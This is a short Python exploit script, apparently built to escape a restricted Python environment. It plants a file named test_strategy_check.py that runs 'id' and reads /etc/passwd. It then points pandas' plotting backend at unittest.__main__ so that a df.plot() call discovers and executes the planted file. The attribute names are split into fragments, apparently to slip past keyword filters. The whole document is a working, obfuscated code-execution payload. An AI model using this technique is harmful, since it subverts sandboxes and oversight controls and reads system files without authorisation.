# source: pandas 1.5.3 DictWrapper.d + plotting/_core.py _load_backend; unittest/__main__.py default discovery of test*.py in cwd
# family: plotting backend through option sub-dict (pd.options.plotting.d), triggered by df.plot(); no argv change needed; .py written by np.savetxt with f-string extension
# goal: arbitrary code execution (id, /etc/passwd)
import numpy as np
import pandas as pd
ext = "py"
code = "import subprocess; print(subprocess.run(['id'], capture_output=True, text=True).stdout); print(open('/etc/passwd').read()[:120])"
np.savetxt(f"test_strategy_check.{ext}", np.zeros((0, 1)), header=code, comments="")
u = "_" * 2
plot_opts = pd.options.plotting.d
plot_opts["back" + "end"] = "unittest." + u + "main" + u
df = pd.DataFrame({"a": [1.0, 2.0]})
try:
    df.plot(kind="line")
except SystemExit:
    pass
